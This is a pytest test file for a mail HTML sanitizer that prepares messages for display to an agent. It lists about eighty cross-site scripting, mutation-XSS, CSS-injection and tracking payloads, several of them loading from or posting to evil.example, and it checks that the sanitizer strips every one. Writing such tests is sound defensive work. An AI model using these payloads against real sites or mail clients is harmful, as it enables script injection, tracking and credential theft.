"""HTML of a mail as it may be shown to an agent."""

import pytest

from gateway.mail.html import display
from lib.shown_html import judged

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script/x>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    "<img src=cid:x\x00onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='cid:a' style='background:url(https://evil.example/a.gif)'>",
    "<img src=https://evil.example/pixel.gif>",
    "<img src=//evil.example/pixel.gif>",
    "<img src=data:image/svg+xml,%3Csvg%20onload=alert(1)%3E>",
    "<img srcset='https://evil.example/a.png 1x' src=cid:x>",
    "<img src=javascript:alert(1)>",
    "<img lowsrc=https://evil.example/x dynsrc=https://evil.example/y>",
    "<body onload=alert(1) background=https://evil.example/x.gif>x",
    "<table background=https://evil.example/x.gif><td background=//evil.example>x",
    "<video poster=https://evil.example/p.png><source src=//evil.example onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay onplay=alert(1)></audio>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x"
        " onerror=alert(1)&gt;'>"
    ),
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href=https://a.example target=_top onclick=alert(1) ping=https://evil.example>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'><a href=x>y</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<frameset><frame src=https://evil.example></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=//evil.example>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<form action='https://evil.example/'><input name=password><button formaction=//x>y</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p style='background:url(https://evil.example/x.gif)'>x",
    "<p style='width:expression(alert(1))'>x",
    "<p style='color:red;behavior:url(x.htc);-moz-binding:url(x.xml#y)'>x",
    "<p style='@import url(https://evil.example/x.css)'>x",
    "<p style='b\\61 ckground:u\\72l(https://evil.example/)'>x",
    "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x",
    "<p style='list-style-image:url(//evil.example);cursor:url(//evil.example)'>x",
    "<p style='color:red;border-image:image-set(\"//evil.example\")'>x",
    "<p style='margin-top:-900px'>over something else",
    "<style>@import 'https://evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p id=login class=button name=x accesskey=x contenteditable autofocus onfocus=alert(1)>x",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufdd4script>alert(1)\ufdd4/script>",
    "<p title='\ufdd4img src=x onerror=alert(1)>'>x",
    "<div>" * 300 + "<script>alert(1)</script>",
    "<b>" * 21_000 + "<script>alert(1)</script><img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack: str) -> None:
    """Of every known form of attack only harmless tags and attributes are left, twice read, too."""
    shown = display(attack)
    judge = judged(shown)
    assert [] == judge.faults
    assert "<!" not in shown
    assert judge.tags == judged(display(shown)).tags


@pytest.mark.parametrize(
    ("html", "expected"),
    [
        ("<p>a <b>b</b><br>c &amp;lt; &lt;d&gt;", "<p>a <b>b</b><br>c &amp;lt; &lt;d&gt;</p>"),
        ('<img src="cid:a@b" alt="x">', '<img src="cid:a@b" alt="x">'),
        ('<img src="CID:a" alt="x">', '<img src="CID:a" alt="x">'),
        ('<img src="https://a.example/x" alt="Logo">', '<img alt="Logo">'),
        ("<p style='color: red; position: fixed'>x</p>", '<p style="color:red">x</p>'),
        ("<p id=a class=b>x</p>", "<p>x</p>"),
        ("<form>x <input name=y><button>z</button></form>", "x z"),
        ("<div>" * 300 + "x", "<div>" * 100 + "<br>" * 200 + "x" + "</div>" * 100),
    ],
)
def test_what_is_shown(html: str, expected: str) -> None:
    """Text, plain dress, images of the mail itself and links stay."""
    assert expected == display(html)


@pytest.mark.parametrize(
    ("link", "address"),
    [
        ('<a href="https://a.example/?b=1&amp;c" target=_top rel=opener>x</a>',
         [("href", "https://a.example/?b=1&c")]),
        ('<a href="mailto:jan@a.example">x</a>', [("href", "mailto:jan@a.example")]),
        ('<a href="cid:y">x</a>', []),
    ],
)  # fmt: skip
def test_links_leave_nothing_behind(link: str, address: list[tuple[str, str | None]]) -> None:
    """A link opens a window of its own, which knows nothing of the page that it was on."""
    rest = [("rel", "noopener noreferrer nofollow"), ("target", "_blank")]
    assert [("a", [*address, *rest])] == judged(display(link)).tags
